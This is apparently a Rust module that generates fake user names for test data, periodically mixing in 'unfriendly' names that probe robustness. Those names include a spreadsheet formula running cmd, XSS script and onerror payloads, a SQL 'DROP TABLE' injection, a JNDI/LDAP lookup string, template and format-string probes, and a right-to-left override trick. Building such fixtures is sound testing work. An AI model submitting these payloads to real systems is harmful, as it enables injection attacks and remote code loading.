//! What people are called. Every 31st person has a name that breaks careless programs.

use std::borrow::Cow;

use crate::random;

const FIRST: &[&str] = &[
    "Ada", "Amara", "Anders", "Aoife", "Beatriz", "Bilal", "Camille", "Chen", "Chloé", "Daniel",
    "Dmitri", "Elena", "Emeka", "Esther", "Fatima", "Felix", "Freya", "Gabriel", "Grace", "Hana",
    "Hugo", "Ines", "Ivan", "Jasmine", "João", "Jonas", "Kavya", "Keiko", "Lars", "Leila", "Lucía",
    "Mads", "Maria", "Mateo", "Mei", "Mohammed", "Nadia", "Nikolai", "Noor", "Olivia", "Omar",
    "Paula", "Priya", "Quentin", "Rafael", "Rosa", "Ruth", "Samuel", "Sanjay", "Sofia", "Søren",
    "Tariq", "Thandiwe", "Tomáš", "Ursula", "Victor", "Wanjiru", "Xavier", "Yara", "Yusuf", "Zoë",
];
const LAST: &[&str] = &[
    "Abara",
    "Almeida",
    "Andersson",
    "Bauer",
    "Bianchi",
    "Brown",
    "Castillo",
    "Chaudhry",
    "Costa",
    "Dubois",
    "Eriksen",
    "Fischer",
    "Fontaine",
    "García",
    "Haddad",
    "Hansen",
    "Hernández",
    "Horvat",
    "Ivanova",
    "Jensen",
    "Johnson",
    "Kamau",
    "Kim",
    "Kowalska",
    "Kumar",
    "Larsen",
    "Lefèvre",
    "Lindqvist",
    "López",
    "Martin",
    "Mbeki",
    "Meyer",
    "Moreau",
    "Müller",
    "Nakamura",
    "Nguyen",
    "Novák",
    "Nwosu",
    "O'Connor",
    "Okafor",
    "Oliveira",
    "Owusu",
    "Park",
    "Patel",
    "Petrov",
    "Popescu",
    "Rahman",
    "Rossi",
    "Santos",
    "Schmidt",
    "Silva",
    "Singh",
    "Smith",
    "Suzuki",
    "Tanaka",
    "Tran",
    "Van der Berg",
    "Virtanen",
    "Weber",
    "Williams",
    "Wójcik",
    "Yamamoto",
    "Yılmaz",
    "Zhang",
];

/// First and last names with everything that text files, spreadsheets, pages and queries trip over.
pub(crate) const UNFRIENDLY: &[(Option<&str>, &str)] = &[
    (Some("Sinéad \"Sin\""), "O'Brien"),
    (Some("Martin"), "King, Jr., \"MLK\""),
    (Some("Line"), "Break\nSecond line"),
    (Some("=cmd|' /C calc'!A0"), "=HYPERLINK(\"http://example.com\",\"click\")"),
    (Some("<script>alert(1)</script>"), "<img src=x onerror=alert(2)>"),
    (Some("محمد"), "عبد الله"),
    (Some("\u{202e}gnihsihp"), "Override"),
    (Some("👩‍🚀 Astro"), "🦀"),
    (Some("C:\\temp\\new"), "back\\slash\\"),
    (None, "Äußerst-Lange-Familie von und zu Hohenstaufen-Württemberg-Sachsen-Anhalt-Thürin."),
    (
        Some("Abcdefghijklmnopqrstuvwxyzabcdefghijklmn"),
        "Zyxwvutsrqponmlkjihgfedcbazyxwvutsrqponmlkjihgfedcbazyxwvutsrqponmlkjihgfedcbaab",
    ),
    (Some("@SUM(1+1)*cmd"), "+1-2"),
    (Some("-2+3"), "; DROP TABLE users; --"),
    (Some("Tab\there"), "carriage\rreturn"),
    (None, "null"),
    (Some("山田"), "太郎"),
    (Some("{{7*7}}"), "${jndi:ldap://example.com/a} %s%n"),
    (Some("Zero\u{200b}width"), "Cafe\u{301} n\u{303}"),
    (Some("  "), "&amp; &lt;b&gt; 'quoted' `tick`"),
    (Some("דוד"), "כהן"),
];

/// First name (if any) and last name of the user in this row.
pub(crate) fn person(seed: u64, row: u64) -> (Option<&'static str>, &'static str) {
    if (row + seed) % 31 == 7 {
        return UNFRIENDLY[(row / 31) as usize % UNFRIENDLY.len()];
    }
    let first = FIRST[random::below(seed, 0x21, row, FIRST.len() as u64) as usize];
    let last = LAST[random::below(seed, 0x22, row, LAST.len() as u64) as usize];
    (Some(first), last)
}

/// Display name, as the platform composes it.
pub(crate) fn full(first: Option<&str>, last: &'static str) -> Cow<'static, str> {
    match first {
        Some(first) => Cow::Owned(format!("{first} {last}")),
        None => Cow::Borrowed(last),
    }
}

/// The letters and digits of a name that are safe in an address.
pub(crate) fn slug(name: &str) -> String {
    name.chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .take(20)
        .collect()
}

/// Accounts that own external users.
pub(crate) const ACCOUNTS: &[&str] = &[
    "Northwind Traders",
    "Globex",
    "Initech",
    "Umbrella Logistics",
    "Stark & Sons",
    "Wayne Retail",
    "Hooli",
    "Vandelay Industries",
    "Acme \"Anvil\" Supplies, Inc.",
    "Soylent Foods",
    "Tyrell Robotics",
    "Wonka Confectionery",
    "Société Générale des Eaux",
    "Größenwahn GmbH",
    "株式会社サンプル",
    "<b>Bold</b> Ventures",
    "=1+1 Consulting",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_fit_their_columns() {
        for (first, last) in UNFRIENDLY {
            let first_length = first.map_or(0, |first| first.chars().count());
            let last_length = last.chars().count();
            assert!(first_length <= 40 && last_length <= 80, "{first:?} {last:?}");
        }
        let longest =
            UNFRIENDLY.iter().map(|(first, last)| full(*first, last).chars().count()).max();
        assert_eq!(longest, Some(121));
    }
}
